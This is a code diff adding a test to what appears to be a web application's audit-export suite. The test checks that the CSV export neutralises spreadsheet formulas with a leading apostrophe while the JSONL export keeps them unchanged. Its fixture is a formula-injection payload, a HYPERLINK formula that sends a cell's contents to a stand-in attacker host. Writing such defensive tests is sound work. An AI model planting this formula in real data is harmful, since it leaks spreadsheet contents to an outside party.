@@ -239,6 +239,20 @@ def test_csv_export_streams_the_filtered_records_and_is_audited(client, org):
     assert event.after["filters"] == {"username": "alice", "flagged": True}
 
 
+def test_csv_export_defuses_text_a_spreadsheet_would_run_as_a_formula_and_jsonl_keeps_it(client, org):
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Expenses")'
+    ask(org["alice"], formula, answer="-2+3 [1]")
+    ask(org["alice"], "Plain question?", answer="A plain answer.")
+    login(client, org["auditor"])
+
+    rows = list(csv.DictReader(io.StringIO(streamed(client.get(reverse("audit:export-csv"))).decode())))
+    lines = streamed(client.get(reverse("audit:export-jsonl"), {"date_from": "2000-01-01"})).decode().splitlines()
+
+    assert [(row["question"], row["answer"]) for row in rows] == [
+        ("Plain question?", "A plain answer."), ("'" + formula, "'-2+3 [1]")]
+    assert [json.loads(line)["question"] for line in lines] == ["Plain question?", formula]
+
+
 def test_jsonl_export_has_each_records_passages_and_is_audited(client, org):
     record = ask(org["alice"], "Leave?")
     other = ask(org["bob"], "Contracts?")
